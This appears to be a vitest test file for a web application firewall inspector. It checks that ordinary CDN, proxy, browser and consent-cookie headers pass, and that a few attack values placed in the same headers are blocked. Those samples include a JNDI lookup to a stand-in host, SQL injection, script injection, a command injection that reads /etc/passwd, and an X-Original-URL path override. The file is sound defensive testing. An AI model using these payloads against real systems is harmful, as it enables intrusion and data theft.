// What proxies, networks and browsers put into the head of every request: one of these read as an attack would shut out
// everybody who comes that way.

import type { InspectedRequest } from '@parapet/kinds';
import { describe, expect, it } from 'vitest';
import { isShipped, shippedInspector } from '../evasions/shippedInspector.ts';

const TARGET = '/node/1?page=2';
const CERTIFICATE =
  '-----BEGIN%20CERTIFICATE-----%0AMIIDdzCCAl%2BgAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJRTES%0A-----END%20CERTIFICATE-----%0A';

const HONEST: readonly (readonly [name: string, value: string])[] = [
  ['CDN-Loop', 'cloudflare; loops=1; subreqs=1'],
  ['CF-Visitor', '{"scheme":"https"}'],
  [
    'X-ARR-SSL',
    '2048|256|CN=Microsoft Azure TLS Issuing CA 02, O=Microsoft Corporation, C=US|CN=*.azurewebsites.net, O=Microsoft Corporation, L=Redmond, S=WA, C=US',
  ],
  ['X-Original-URL', TARGET],
  ['X-Rewrite-URL', '/node/1'],
  ['X-Forwarded-Uri', `https://www.example.com${TARGET}`],
  ['X-MS-Client-Principal-Name', "anna.o'neil@example.com"],
  [
    'X-Azure-Ref',
    '0zxV+XAAAAABKMMOjBv2NT4TY6SQVjC0zV1NURURHRTA2MTkANDM3YzgyY2QtMzYwYS00YTU0LTk0YzMtNWZmNzA3NjQ3Nzgz',
  ],
  ['CloudFront-Viewer-TLS', 'TLSv1.3:TLS_AES_128_GCM_SHA256:fullHandshake'],
  ['X-Amzn-Mtls-Clientcert', CERTIFICATE],
  [
    'X-Forwarded-Client-Cert',
    'By=spiffe://cluster.local/ns/a/sa/b;Hash=468ed33be74eee65;Subject="/C=US/ST=CA/L=San Francisco/OU=Web/CN=Test Client";URI=spiffe://cluster.local/ns/x',
  ],
  ['X-Cloud-Trace-Context', '105445aa7843bc8bf206b12000100000/1;o=1'],
  ['baggage', 'userId=alice,serverNode=DF%2028,isProduction=false;prop=1'],
  ['Via', '1.1 varnish (Varnish/7.1), 1.1 google, 2.0 3a2b.cloudfront.net (CloudFront)'],
  ['Fastly-FF', 'dc1!FRA!cache-fra-eddf123-FRA, dc2!AMS!cache-ams2100-AMS'],
  ['X-Timer', 'S1718000000.123456,VS0'],
  [
    'X-Akamai-Edgescape',
    'georegion=246,country_code=US,region_code=CA,city=SANFRANCISCO,lat=37.7795,long=-122.4195,timezone=PST,zip=94102-94107+94114,throughput=vhigh,bw=5000',
  ],
  ['X-SSL-Client-S-DN', "CN=Anna O'Neil,OU=Sales & Marketing,O=Example GmbH,C=DE"],
  ['Sec-CH-UA', '"(Not(A:Brand";v="8", "Chromium";v="98"'],
  ['Sec-CH-UA', String.raw`"\\Not;A\"Brand";v="99", "Google Chrome";v="85"`],
  ['X-OperaMini-Phone-UA', 'Mozilla/5.0 (Linux; Android 11; SM-A125F) AppleWebKit/537.36'],
  [
    'X-UCBrowser-UA',
    'pf(Linux);la(en-US);re(U2/1.0.0);dv(SM-J200G);pr(UCBrowser/12.9.3.1144);ov(Android 5.1.1);pi(540*960);up(U2/1.0.0);er(U);bt(GJ);pm(1);nm(0)',
  ],
  ['X-wap-profile', '"http://wap.samsungmobile.com/uaprof/SM-G900F.xml"'],
  ['Attribution-Reporting-Eligible', 'not-navigation-source, trigger, event-source;navigation-source'],
  ['Accept', 'application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"'],
  ['Cookie', '_abck=0A1B~-1~YAAQ~-1~||0||~-1; bm_sz=AB~YAAQ+/~1~2; ak_bmsc=A1B2~000000~YAAQ/+'],
  ['Cookie', 'visid_incap_123=abc/DEF+ghi==; incap_ses_1_2=x/y+z==; TS01a2b3c4=01d3; AWSALB=AbC/+dEf=='],
  ['Cookie', '__utmz=1.1718.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided)'],
  ['Cookie', '_pk_ref.1.1fff=%5B%22%22%2C%22%22%2C1718%2C%22https%3A%2F%2Fwww.google.com%2F%22%5D'],
  [
    'Cookie',
    "CookieConsent={stamp:'a3Kd9/x0Zl8Qw==',necessary:true,preferences:false,method:'explicit',ver:1,utc:1718000000000,region:'de'}",
  ],
  [
    'Cookie',
    'borlabs-cookie=%7B%22consents%22%3A%7B%22essential%22%3A%5B%22borlabs-cookie%22%5D%7D%2C%22domainPath%22%3A%22example.com%2F%22%7D',
  ],
  [
    'Cookie',
    's_sq=%5B%5BB%5D%5D; mbox=PC#abc.37_0#1718|session#def#1718; tarteaucitron=!gtag=true!youtube=wait',
  ],
];

describe.skipIf(!isShipped())('the head of an honest request', () => {
  const inspector = shippedInspector();
  const actionOn = (name: string, value: string, rawTarget = TARGET): string => {
    const headers: InspectedRequest['headers'] = [
      ['host', 'www.example.com'],
      [name.toLowerCase(), value],
    ];
    const request = { method: 'GET', rawTarget, headers, body: undefined, isBodyCut: false, site: '' };
    return inspector.inspect(request).action;
  };

  it.each(HONEST)('may hold %s: %s', (name, value) => {
    expect(actionOn(name, value)).toBe('pass');
  });

  it('may not hold an attack in the same places', () => {
    const attacks = [
      ['X-Original-URL', '/admin'],
      ['Cookie', '_abck=${jndi:ldap://x.example/a}'],
      ['Cookie', `_ga=' union select 1,2 from users-- `],
      ['Cookie', 'CookieConsent=<script>alert(1)</script>'],
      ['Cookie', `tarteaucitron=${'x'.repeat(4096)}"><script>alert(1)</script>`],
      ['X-UCBrowser-UA', 'pf(Linux);id;cat /etc/passwd'],
      ['X-OperaMini-Phone-UA', `Mozilla/5.0' or sleep(5)-- -`],
    ] as const;
    expect(attacks.map(([name, value]) => actionOn(name, value))).toEqual(attacks.map(() => 'block'));
  });

  it('may not ask for another address because it was once the same', () => {
    expect(actionOn('X-Original-URL', '/user/1/edit', '/user/1/edit')).toBe('pass');
    expect(actionOn('X-Original-URL', '/user/1/edit', '/')).toBe('block');
  });
});
